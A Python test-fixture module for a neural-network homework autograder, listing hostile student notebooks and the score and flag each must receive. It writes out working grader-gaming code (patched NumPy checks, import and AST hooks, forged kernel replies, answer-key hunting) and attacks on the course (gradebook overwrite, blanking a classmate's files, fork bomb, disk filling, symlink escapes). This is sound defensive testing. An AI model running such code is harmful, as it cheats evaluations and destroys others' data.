"""Hostile, damaged and foreign-edited submissions, with the outcome each must get.

Each case is a notebook built from the reference (or a known mistake) plus what
the grading tools must make of it: the score the code deserves (its honest base's:
the same notebook without the tampering), and the flag that must name what
happened. The hidden tests run in the grader, so tampering inside the kernel
(NumPy patched, errors hidden, the checks replaced, cells rewritten, the kernel's
end of the channel forged) cannot raise a score; only code that is right when it
is graded (it detects the grader) can score above what it deserves elsewhere,
and that is flagged, so an instructor reads it.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable

import nbformat
from nbformat import NotebookNode

from backprop_hw import notebooks

SIGMOID = "return 1 / (1 + np.exp(-z))"
WRONG_SIGMOID = "return 1 / (1 + np.exp(z))"  # costs test_sigmoid, 4 points
# backward_propagation returning zeros: costs its three cells, 20 points (80 honestly). The attacks
# below try to raise it, each as a student who has read this repository would.
ZERO_BACKWARD = ("dZ2 = A2 - Y", "dZ2 = 0 * (A2 - Y)")
OWN_BACKWARD = "\n\n_own_backward = backward_propagation\n\n"  # the zeros, kept under another name


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[NotebookNode], NotebookNode]  # from the reference submission
    deserved: float  # the score the code deserves
    flag: str = ""  # a flag that must be raised (substring); "" for none required
    may_score_above: bool = False  # right whenever it is graded (it detects the grader): the flag is the protection


def _index(nb: NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if notebooks.nbgrader_meta(c).get("grade_id") == grade_id)


def _edit_cell(grade_id: str, edit: Callable[[NotebookNode, int], None]) -> Callable[[NotebookNode], NotebookNode]:
    def build(reference: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(reference)
        edit(nb, _index(nb, grade_id))
        return nb
    return build


def _sigmoid(new: str) -> Callable[[NotebookNode], NotebookNode]:
    return lambda reference: notebooks.with_change(reference, "sigmoid", SIGMOID, new)


def _set(cell_field: str, value) -> Callable[[NotebookNode, int], None]:
    def edit(nb: NotebookNode, index: int) -> None:
        nb.cells[index][cell_field] = value
    return edit


def _strip_metadata(keep_ids: bool) -> Callable[[NotebookNode], NotebookNode]:
    def build(reference: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(reference)
        for cell in nb.cells:
            cell.metadata.pop("nbgrader", None)
            if not keep_ids:
                cell.pop("id", None)
        if not keep_ids:
            nb.nbformat_minor = 4
        return nb
    return build


def _as_nbformat_4_0(reference: NotebookNode) -> NotebookNode:
    nb = copy.deepcopy(reference)
    for cell in nb.cells:
        cell.pop("id", None)
    nb.nbformat_minor = 0
    return nb


def _foreign_front_end(reference: NotebookNode) -> NotebookNode:
    """What VS Code and Colab add: their own notebook and cell metadata, ids in cell metadata."""
    nb = copy.deepcopy(reference)
    nb.metadata["colab"] = {"provenance": [], "name": "backprop.ipynb"}
    nb.metadata["vscode"] = {"interpreter": {"hash": "0" * 64}}
    for number, cell in enumerate(nb.cells):
        cell.metadata["id"] = f"colab{number:04d}"
        if cell.cell_type == "code":
            cell.metadata["vscode"] = {"languageId": "python"}
            cell.execution_count = None
            cell.outputs = []
    return nb


def _moved_up(reference: NotebookNode) -> NotebookNode:
    nb = copy.deepcopy(reference)
    cell = nb.cells.pop(_index(nb, "test_predict"))
    nb.cells.insert(2, cell)
    return nb


def _duplicated(reference: NotebookNode) -> NotebookNode:
    nb = copy.deepcopy(reference)
    index = _index(nb, "test_sigmoid")
    twin = copy.deepcopy(nb.cells[index])
    twin.id = "a-copy-of-the-test"
    nb.cells.insert(index + 1, twin)
    return nb


def _turned_markdown(nb: NotebookNode, index: int) -> None:
    cell = nb.cells[index]
    nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.id)


def _with_cell(source: str, after: str = "setup", metadata: dict | None = None):
    def build(reference: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(reference)
        cell = nbformat.v4.new_code_cell(source)
        if metadata is not None:
            cell.metadata["nbgrader"] = copy.deepcopy(metadata)
        nb.cells.insert(_index(nb, after) + 1, cell)
        return nb
    return build


def _fake_test_cell(reference: NotebookNode) -> NotebookNode:
    """Tampering in a cell dressed as a copy of the sigmoid test cell, above the real one."""
    nb = _sigmoid(WRONG_SIGMOID)(reference)
    metadata = nb.cells[_index(nb, "test_sigmoid")].metadata.nbgrader
    return _with_cell("np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: "
                      "np.ones(np.broadcast(a, b).shape, bool)", after="sigmoid", metadata=metadata)(nb)


def _keeps_a_stand_in(reference: NotebookNode) -> NotebookNode:
    """compute_cost defined early as a placeholder, so that forward_propagation's test puts the answer
    key's compute_cost in its place; forward_propagation keeps it, and the real compute_cost returns it."""
    nb = notebooks.with_change(reference, "forward_propagation", "A2 = sigmoid(Z2)",
                               "A2 = sigmoid(Z2)\n    globals().setdefault('kept', compute_cost)")
    nb = notebooks.with_change(nb, "forward_propagation", "return A2, cache",
                               "return A2, cache\n\n\ndef compute_cost(A2, Y):\n    pass")
    return notebooks.with_change(nb, "compute_cost", "m = Y.shape[1]", "return kept(A2, Y)")


def _hides_its_loop(reference: NotebookNode) -> NotebookNode:
    """compute_cost loops over the examples (right value) with the line counter switched off, and back
    on before it returns, so that the loop-over-examples test would count no loop."""
    from backprop_hw.checks.parts.vectorized import LOOPED_COST
    from backprop_hw.harness.catalogue import REFERENCE_COST

    nb = notebooks.with_change(reference, "compute_cost", REFERENCE_COST, LOOPED_COST)
    nb = notebooks.with_change(nb, "compute_cost", "    cost = 0.0\n",
                               "    import sys\n    counter = sys.gettrace()\n    sys.settrace(None)\n    cost = 0.0\n")
    return notebooks.with_change(nb, "compute_cost", "return float(cost)", "sys.settrace(counter)\n    return float(cost)")


def _zero_backward(reference: NotebookNode) -> NotebookNode:
    return notebooks.with_change(reference, "backward_propagation", *ZERO_BACKWARD)


def _backward_wrapped(wrapper: str) -> Callable[[NotebookNode], NotebookNode]:
    """The zeros of backward_propagation behind `wrapper`, which redefines it to find the answer key."""
    def build(reference: NotebookNode) -> NotebookNode:
        nb = _zero_backward(reference)
        cell = notebooks.solution_cells(nb)["backward_propagation"]
        cell.source += OWN_BACKWARD + wrapper.strip() + "\n"
        return nb
    return build


def _zero_backward_with_cell(code: str) -> Callable[[NotebookNode], NotebookNode]:
    """The zeros of backward_propagation and a cell of `code` right after the setup cell."""
    return lambda reference: _with_cell(code.strip())(_zero_backward(reference))


KEY_FROM_MODULES = '''
def backward_propagation(parameters, cache, X, Y):
    import sys
    for module in list(sys.modules.values()):
        key = getattr(module, "backward_propagation", None)
        if callable(key) and module is not sys.modules["__main__"]:
            return key(parameters, cache, X, Y)
    return _own_backward(parameters, cache, X, Y)
'''

KEY_FROM_CALLERS = '''
def backward_propagation(parameters, cache, X, Y):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for namespace in (frame.f_locals, frame.f_globals):
            for value in list(namespace.values()):
                for key in (list(value.values()) if isinstance(value, dict) else [value]):
                    if callable(key) and getattr(key, "__name__", "") == "backward_propagation" \\
                            and key is not backward_propagation and key is not _own_backward:
                        return key(parameters, cache, X, Y)
        frame = frame.f_back
    globals()["backward_propagation"] = _own_backward  # none: search no more (training calls it 10,000 times)
    return _own_backward(parameters, cache, X, Y)
'''

KEY_FROM_GC = '''
def backward_propagation(parameters, cache, X, Y):
    import gc
    for key in gc.get_objects():
        if callable(key) and getattr(key, "__name__", "") == "backward_propagation" \\
                and key is not backward_propagation and key is not _own_backward:
            return key(parameters, cache, X, Y)
    globals()["backward_propagation"] = _own_backward  # none: search no more (training calls it 10,000 times)
    return _own_backward(parameters, cache, X, Y)
'''

KEY_FROM_ITS_FILE = '''
def backward_propagation(parameters, cache, X, Y):
    import glob, os, site, sys
    places = list(sys.path) + site.getsitepackages() + [sys.prefix, os.path.expanduser("~"), "/tmp", "/opt", "/srv"]
    for place in places:
        for path in glob.glob(os.path.join(place or ".", "**", "answer_key.py"), recursive=True)[:50]:
            found = {}
            try:
                exec(open(path).read(), found)
                return found["backward_propagation"](parameters, cache, X, Y)
            except Exception:
                pass
    globals()["backward_propagation"] = _own_backward  # none: search no more (training calls it 10,000 times)
    return _own_backward(parameters, cache, X, Y)
'''

STAND_IN_ASKED_FOR = '''
def backward_propagation(parameters, cache, X, Y):
    import sys
    places = [vars(m) for n, m in list(sys.modules.items()) if "backprop" in n]
    frame = sys._getframe(1)
    while frame is not None:
        places += [frame.f_locals, frame.f_globals] + [vars(v) for v in frame.f_locals.values() if hasattr(v, "__dict__")]
        frame = frame.f_back
    for place in places:
        for value in list(place.values()):
            for key in (list(value.values()) if isinstance(value, dict) else [value]):
                if callable(key) and getattr(key, "__name__", "") == "backward_propagation" \\
                        and key is not backward_propagation and key is not _own_backward:
                    return key(parameters, cache, X, Y)
    globals()["backward_propagation"] = _own_backward  # none: search no more (training calls it 10,000 times)
    return _own_backward(parameters, cache, X, Y)
'''

IMPORT_HOOK = '''
import sys, types

class _NoChecks:
    """An import hook that answers any import of the grader's checks with checks that pass."""

    def find_spec(self, name, path=None, target=None):
        if name.startswith("backprop_hw"):
            import importlib.machinery
            return importlib.machinery.ModuleSpec(name, self, is_package=True)

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.__getattr__ = lambda attribute: (lambda *args, **kwargs: None)
        return module

    def exec_module(self, module):
        pass

sys.meta_path.insert(0, _NoChecks())
'''

CHECKS_REPLACED = '''
import sys
for _module in list(sys.modules.values()):
    for _name in list(getattr(_module, "__dict__", {})):
        if _name.startswith(("check_", "expect_", "fail")):
            try:
                setattr(_module, _name, lambda *args, **kwargs: None)
            except Exception:
                pass
for _name in ("check_backward_propagation", "check_backward_propagation_general", "check_backward_propagation_vectorized"):
    globals()[_name] = lambda *args, **kwargs: None
'''

INPUT_TRANSFORMER = '''
def _skip_checks(lines):
    tests = ("assert", "check_", "isolate(", "from backprop_hw")
    return ["pass\\n"] if any(line.lstrip().startswith(tests) for line in lines) else lines

get_ipython().input_transformers_cleanup.append(_skip_checks)
'''

AST_TRANSFORMER = '''
import ast

class _DropChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and isinstance(call.func, ast.Name) and call.func.id.startswith(("check_", "isolate")):
            return ast.Pass()
        return node

get_ipython().ast_transformers.append(_DropChecks())
'''

CELL_EVENTS = '''
import sys
from IPython.display import clear_output

def _forget_errors(result=None):
    clear_output()
    sys.displayhook(100)

get_ipython().events.register("post_run_cell", _forget_errors)
get_ipython().events.register("post_execute", lambda: sys.displayhook(100))
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
'''

EVERY_CELL_PASSES = '''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''

# The kernel's end of the channel, forged: every reply to a call of backward_propagation replaced
# (plausible gradients of the right shapes, or a message over the grader's size cap).
FORGED_REPLIES = '''
import numpy as np

_handler = next(f for name, f in get_ipython().kernel.comm_manager.targets.items() if "backprop" in name)
_protocol = _handler.__globals__["protocol"]
_send, _receive, _calls = _protocol.Channel.send, _protocol.Channel.receive, []

def _forged_receive(self, *args, **kwargs):
    message = _receive(self, *args, **kwargs)
    if message.get("op") == "call":
        _calls.append((message["name"], message.get("args")))
    return message

def _forged_send(self, message, *args, **kwargs):
    if message.get("op") in ("result", "raised") and _calls and _calls[-1][0] == "backward_propagation":
        parameters, cache, X, Y = _calls[-1][1]
        {forge}
    return _send(self, message, *args, **kwargs)

_protocol.Channel.send, _protocol.Channel.receive = _forged_send, _forged_receive
'''
FORGE_PLAUSIBLE = ("grads = {'d' + name: np.full_like(value, 0.01) for name, value in list(parameters.items()) + list(cache.items())}\n"
                   "        message = dict(message, op='result', value=grads, stderr='')")
FORGE_OVERSIZED = "message = dict(message, op='result', value=np.zeros(20_000_000), stderr='')"

LOOP_IN_A_THREAD = ('''
    m = Y.shape[1]
    total = [0.0]

    def add_up():
        for i in range(m):
            total[0] += -(Y[0, i] * np.log(A2[0, i]) + (1 - Y[0, i]) * np.log(1 - A2[0, i])) / m

    import threading
    worker = threading.Thread(target=add_up)
    worker.start()
    worker.join()
    cost = total[0]
''')

LOOP_COMPILED_AS_A_LIBRARY = '''
import sys as _sys
exec(compile("""
def compute_cost(A2, Y):
    m = Y.shape[1]
    cost = 0.0
    for i in range(m):
        cost += -(Y[0, i] * np.log(A2[0, i]) + (1 - Y[0, i]) * np.log(1 - A2[0, i])) / m
    return float(cost)
""", _sys.prefix + "/lib/cost.py", "exec"))
'''


def _loop_in_a_thread(reference: NotebookNode) -> NotebookNode:
    from backprop_hw.harness.catalogue import REFERENCE_COST

    return notebooks.with_change(reference, "compute_cost", REFERENCE_COST, LOOP_IN_A_THREAD)


def _loop_compiled_as_a_library(reference: NotebookNode) -> NotebookNode:
    """compute_cost redefined from a string compiled under a file name in Python's own folder, whose
    lines the line counter does not count (it counts the student's code only)."""
    nb = copy.deepcopy(reference)
    notebooks.solution_cells(nb)["compute_cost"].source += "\n\n" + LOOP_COMPILED_AS_A_LIBRARY.strip() + "\n"
    return nb


def _blank_release(reference: NotebookNode) -> NotebookNode:
    """The release as handed out (every answer a stub), built from the reference's own cells."""
    from backprop_hw import paths

    return copy.deepcopy(notebooks.read(paths.release_notebook()))


CASES: list[Case] = [
    Case("test-cell-pass", "a test cell edited to `pass`", _edit_cell("test_sigmoid", _set("source", "pass")), 100),
    Case("wrong-and-test-pass", "a wrong sigmoid, and its test cell edited to `pass`",
         lambda r: _edit_cell("test_sigmoid", _set("source", "pass"))(_sigmoid(WRONG_SIGMOID)(r)), 96),
    Case("test-cell-deleted", "a test cell deleted", _edit_cell("test_sigmoid", lambda nb, i: nb.cells.pop(i)), 100,
         flag="repaired: test cell test_sigmoid was missing"),
    Case("test-cell-moved", "a test cell moved above the code it tests", _moved_up, 100,
         flag="repaired: test cell test_predict was moved"),
    Case("test-cell-duplicated", "a test cell copied, grade_id and all", _duplicated, 100,
         flag="repaired: a second copy of cell test_sigmoid"),
    Case("points-changed", "a test cell's points set to 1000",
         _edit_cell("test_sigmoid", lambda nb, i: nb.cells[i].metadata.nbgrader.update(points=1000)), 100),
    Case("grade-id-changed", "a test cell's grade_id edited",
         _edit_cell("test_sigmoid", lambda nb, i: nb.cells[i].metadata.nbgrader.update(grade_id="test_mine")), 100,
         flag="repaired: grade_id 'test_mine' is not in the release"),
    Case("test-cell-markdown", "a test cell turned into markdown", _edit_cell("test_sigmoid", _turned_markdown), 100),
    Case("metadata-stripped", "nbgrader metadata stripped from every cell (cell ids kept)", _strip_metadata(True), 100,
         flag="repaired: restored the metadata of test_sigmoid (cell id)"),
    Case("metadata-and-ids-stripped", "nbgrader metadata and cell ids stripped (nbformat 4.4)", _strip_metadata(False),
         100, flag="repaired: restored the metadata of sigmoid (defines sigmoid)"),
    Case("nbformat-4.0", "saved as nbformat 4.0 (no cell ids)", _as_nbformat_4_0, 100),
    Case("foreign-front-end", "saved by VS Code or Colab (their metadata, outputs cleared)", _foreign_front_end, 100),
    Case("another-assignment", "a notebook of another assignment",
         lambda r: nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")]), 0,
         flag="repaired: found none of the release's graded cells"),
    Case("numpy-patched", "a wrong sigmoid, and np.allclose, np.isclose, np.testing patched to agree",
         _sigmoid(WRONG_SIGMOID + "\n\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: "
                  "np.ones(np.broadcast(a, b).shape, bool)\nnp.testing.assert_allclose = lambda *a, **k: None"),
         96, flag="suspicious: changes numpy.allclose"),
    Case("errors-hidden", "a wrong sigmoid, and IPython told to swallow AssertionError",
         _sigmoid(WRONG_SIGMOID + "\n\nget_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)"),
         96, flag="suspicious: overrides error display (set_custom_exc)"),
    Case("tampering-as-a-test-cell", "NumPy patched in a cell dressed as a copy of a test cell", _fake_test_cell,
         96, flag="suspicious: changes numpy.allclose"),
    Case("shell-escape", "a cell that runs `!ls ../..`", _with_cell("!ls ../.."), 100,
         flag="suspicious: runs shell commands (system)"),
    Case("detects-grader", "right only when NBGRADER_EXECUTION is set",
         _sigmoid("import os\n    if os.environ.get('NBGRADER_EXECUTION'):\n        " + SIGMOID + "\n    return 0 * z"),
         96, flag="suspicious: mentions 'NBGRADER_EXECUTION'", may_score_above=True),
    Case("always-equal", "returns an object equal to everything",
         _sigmoid("class Anything(float):\n        def __eq__(self, other):\n            return True\n    return Anything(0.5)"),
         96, flag="suspicious: defines __eq__"),
    Case("sys-exit", "calls sys.exit() after a right answer", _sigmoid(SIGMOID + "\n\nimport sys\nsys.exit(0)"), 100,
         flag="suspicious: ends or signals its own process (sys.exit)"),
    Case("looks-around", "lists the folders above its own", _sigmoid(SIGMOID + "\n\nimport os\nprint(os.listdir('../..'))"),
         100, flag="suspicious: uses files or the shell (os.listdir)"),
    Case("publishes-a-score", "a wrong sigmoid that publishes the number 4 as a cell result while it is tested",
         _sigmoid("import sys\n    sys.displayhook(4)\n    return 0 * z"), 96,
         flag="suspicious: publishes a cell result (sys.displayhook)"),
    Case("publishes-a-score-in-every-cell", "a wrong sigmoid, and a callback that publishes 100 after every cell",
         _sigmoid(WRONG_SIGMOID + "\n\nimport sys\nget_ipython().events.register('post_execute', "
                  "lambda: sys.displayhook(100))"), 96, flag="suspicious: runs code around every cell"),
    Case("keeps-a-stand-in", "keeps the answer key's compute_cost, which stands in while forward_propagation is "
         "tested, and answers compute_cost's own test with it", _keeps_a_stand_in, 95),
    Case("hides-its-loop", "loops over the examples with sys.settrace switched off while it does",
         _hides_its_loop, 95, flag="suspicious: changes Python's tracing, which counts the lines a test runs"),
    Case("imports-the-grader", "imports the answer key from the grader's package",
         _sigmoid("from backprop_hw.checks.answer_key import sigmoid as key\n    return key(z)"), 96,
         flag="suspicious: imports the grader's package backprop_hw"),
    # What raised a grade while the hidden tests ran in the kernel (each scored 88 to 100 then).
    Case("key-from-modules", "a zero backward_propagation that looks for the answer key in the module table",
         _backward_wrapped(KEY_FROM_MODULES), 80),
    Case("key-from-callers", "... in the frames of the code that calls it", _backward_wrapped(KEY_FROM_CALLERS), 80),
    Case("key-from-gc", "... among every object the garbage collector knows", _backward_wrapped(KEY_FROM_GC), 80),
    Case("key-from-its-file", "... in answer_key.py, searched for along sys.path and executed",
         _backward_wrapped(KEY_FROM_ITS_FILE), 80),
    Case("stand-in-asked-for", "... among the stand-ins of the kernel's end of the channel, while its own test runs",
         _backward_wrapped(STAND_IN_ASKED_FOR), 80),
    Case("import-hook", "a zero backward_propagation, and an import hook that answers the checks' import with "
         "checks that pass", _zero_backward_with_cell(IMPORT_HOOK), 80),
    Case("checks-replaced", "... and every check_* in the loaded modules and the notebook replaced by a no-op",
         _zero_backward_with_cell(CHECKS_REPLACED), 80),
    Case("input-transformer", "... and an IPython input transformer that turns every later cell with an assert or a "
         "check into `pass`", _zero_backward_with_cell(INPUT_TRANSFORMER), 80),
    Case("ast-transformer", "... and an AST transformer that drops the asserts and the check calls",
         _zero_backward_with_cell(AST_TRANSFORMER), 80),
    Case("cell-events", "... and cell events that clear every cell's errors and publish 100, errors swallowed",
         _zero_backward_with_cell(CELL_EVENTS), 80),
    Case("forged-replies", "... and the kernel's end of the channel forged to answer backward_propagation's calls "
         "with plausible gradients", _zero_backward_with_cell(FORGED_REPLIES.replace("{forge}", FORGE_PLAUSIBLE)), 80),
    Case("oversized-replies", "... and with a reply over the grader's size cap",
         _zero_backward_with_cell(FORGED_REPLIES.replace("{forge}", FORGE_OVERSIZED)), 80),
    Case("blank-passes-every-cell", "the blank release, with an input transformer that turns every later cell into "
         "`pass`", lambda reference: _with_cell(EVERY_CELL_PASSES.strip())(_blank_release(reference)), 0),
    Case("loop-in-a-thread", "compute_cost loops over the examples in a thread of its own, where no line is counted",
         _loop_in_a_thread, 95),
    Case("loop-compiled-as-a-library", "compute_cost loops over the examples in code compiled from a string under a "
         "file name in Python's own folder, whose lines are not counted", _loop_compiled_as_a_library, 95),
]


# -- attacks on the grading of others -------------------------------------------------------------------
#
# Each is a code cell put into the untouched release (so the attacker deserves 0), right after
# the setup cell, written as a student with the grader's rights would write it: it knows the
# absolute course root, a classmate's id and a port listening on 127.0.0.1. Graded in one course
# run beside an honest victim graded before the attackers and a copy graded after them, each must
# change nothing but the attacker's own grade. Every loop is bounded, so that even without a
# sandbox the damage stays finite.

LEFTOVER_MARKER = "backprop-hw-hostile-leftover"


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    code: str  # str.format'ed with course_root, assignment, notebook, victim, port, package (the grader's), marker
    solutions_from_source: bool = False  # the answer cells exec what the attack read from source/


ATTACKS: list[Attack] = [
    Attack("rewrites-the-grader", "appends a no-op for every check_* to the grader's checks module", '''
import os, backprop_hw.checks as checks
for module in ("__init__.py", "answer_key.py"):
    try:
        with open(os.path.join(os.path.dirname(checks.__file__), module), "a") as file:
            file.write("\\n" + "".join(f"{{name}} = lambda *a, **k: None\\n" for name in dir(checks) if name.startswith("check_")))
        print("rewrote", module)
    except OSError as error:
        print("blocked:", error)
'''),
    Attack("replaces-the-gradebook", "writes a table into gradebook.db, then truncates it", '''
import sqlite3
try:
    db = sqlite3.connect("{course_root}/gradebook.db")
    db.execute("create table hacked (x)")
    db.execute("update grade set manual_score = 100")
    db.commit()
    print("wrote the gradebook")
except Exception as error:
    print("blocked:", error)
try:
    open("{course_root}/gradebook.db", "wb").close()
except OSError as error:
    print("blocked:", error)
'''),
    Attack("reads-the-solution", "reads source/ and executes the reference's solution cells in its answer cells", '''
import json
try:
    with open("{course_root}/source/{assignment}/{notebook}") as file:
        source_nb = json.load(file)
    SOLUTIONS = {{c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"]) for c in source_nb["cells"]
                 if c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution")}}
    print("read", len(SOLUTIONS), "solutions")
except Exception as error:
    print("blocked:", error)
    SOLUTIONS = {{}}
''', solutions_from_source=True),
    Attack("hunts-for-the-source", "searches the temporary folders, the home, the other processes' folders and the "
           "environment for a notebook with the solutions (a worker's course root has a random name) and executes it", '''
import glob, json, os, tempfile

def notebooks_in(places, at_most=20000):
    looked_at = 0
    for place in places:
        for folder, _, names in os.walk(place, onerror=lambda error: None):
            for name in names:
                looked_at += 1
                if looked_at > at_most:
                    return
                if name.endswith(".ipynb"):
                    yield os.path.join(folder, name)

def solutions_of(path):
    try:
        with open(path) as file:
            cells = json.load(file)["cells"]
        return {{c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"]) for c in cells
                if c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution")}}
    except Exception:
        return {{}}

places = ["/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir(), os.path.expanduser("~"),
          *glob.glob("/proc/*/cwd"), *glob.glob("/proc/*/root/tmp"),
          *(value for value in os.environ.values() if value.startswith("/"))]
SOLUTIONS = {{}}
for path in notebooks_in(places):
    found = solutions_of(path)
    if any("BEGIN SOLUTION" in code for code in found.values()):
        SOLUTIONS = found
        print("found the solutions in", path)
        break
else:
    print("no solutions found")
''', solutions_from_source=True),
    Attack("reads-the-answer-key", "finds the grader's package (the repository, the Python path, the folder of the "
           "kernel's end of the channel) and imports the answer key as its answers", '''
import glob, os, sys
places = ["{package}", os.path.dirname("{package}"), *sys.path]
places += [os.path.dirname(os.path.dirname(f.__code__.co_filename))
           for f in get_ipython().kernel.comm_manager.targets.values() if hasattr(f, "__code__")]
SOLUTIONS = {{}}
for place in places:
    for path in glob.glob(os.path.join(place, "**", "answer_key.py"), recursive=True)[:5]:
        try:
            sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(path))))
            from backprop_hw.checks import answer_key as _key
            SOLUTIONS = {{name: f"from backprop_hw.checks.answer_key import {{name}}" for name in _key.GRADED_FUNCTIONS}}
            print("read the answer key at", path)
        except Exception as error:
            print("blocked:", error)
        if SOLUTIONS:
            break
    if SOLUTIONS:
        break
else:
    print("no answer key found")
''', solutions_from_source=True),
    Attack("tampers-with-a-classmate", "reads, then blanks, a classmate's submitted and autograded notebooks", '''
for path in ("{course_root}/submitted/{victim}/{assignment}/{notebook}",
             "{course_root}/autograded/0-victim-before/{assignment}/{notebook}"):
    try:
        print(len(open(path).read()), "characters of", path)
        open(path, "w").write("{{}}")
    except OSError as error:
        print("blocked:", error)
'''),
    Attack("writes-feedback", "writes a classmate's feedback file", '''
import os
try:
    os.makedirs("{course_root}/feedback/{victim}/{assignment}", exist_ok=True)
    open("{course_root}/feedback/{victim}/{assignment}/backprop.html", "w").write("<h1>you failed</h1>")
except OSError as error:
    print("blocked:", error)
'''),
    Attack("opens-a-socket", "connects to a server listening on 127.0.0.1", '''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=3).sendall(b"hello from a submission")
        print("connected to", host)
    except OSError as error:
        print("blocked:", error)
'''),
    Attack("fork-bomb", "forks until the system says no (2,000 at most)", '''
import os, time
children = 0
try:
    while children < 2000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("stopped after", children, "children:", error)
'''),
    Attack("fills-the-disk", "writes until the disk is full (2 GB a file at most) in /tmp, its folder and the course", '''
chunk = b"x" * (1 << 20)
for where in ("/tmp/filler", "filler", "{course_root}/filler"):
    try:
        with open(where, "wb") as file:
            for _ in range(2048):
                file.write(chunk)
    except OSError as error:
        print("stopped:", where, error)
'''),
    Attack("leaves-a-process", "starts processes of its own session that outlive the notebook, one to blank a classmate later", '''
import subprocess
subprocess.Popen(["sh", "-c", "sleep 600  # {marker}"], start_new_session=True)
subprocess.Popen(["sh", "-c", "sleep 4; echo '{{}}' > {course_root}/submitted/{victim}/{assignment}/{notebook}  # {marker}"],
                 start_new_session=True)
'''),
    Attack("escapes-by-symlink", "links to source/, to .. and to / from its folder, and reads through them", '''
import os
for name, target in (("solution.ipynb", "{course_root}/source/{assignment}/{notebook}"), ("up", "../../.."), ("root", "/")):
    try:
        os.symlink(target, name)
    except OSError as error:
        print("blocked:", error)
for path in ("solution.ipynb", "up/gradebook.db", "../../../gradebook.db", "up/submitted"):
    try:
        print(path, len(open(path, "rb").read()) if not os.path.isdir(path) else os.listdir(path))
    except OSError as error:
        print("blocked:", error)
'''),
]


def attacker_notebook(release: NotebookNode, attack: Attack, **where: str) -> NotebookNode:
    """The untouched release with the attack after its setup cell (and, for reads-the-solution,
    answer cells that execute what the attack found)."""
    nb = copy.deepcopy(release)
    code = attack.code.format(marker=LEFTOVER_MARKER, **where).strip()
    if attack.solutions_from_source:
        for cell in nb.cells:
            meta = notebooks.nbgrader_meta(cell)
            if meta.get("solution") and cell.cell_type == "code":
                cell.source = f"exec(SOLUTIONS.get({meta['grade_id']!r}, 'raise NotImplementedError()'))"
    nb.cells.insert(_index(nb, "setup") + 1, nbformat.v4.new_code_cell(code))
    return nb
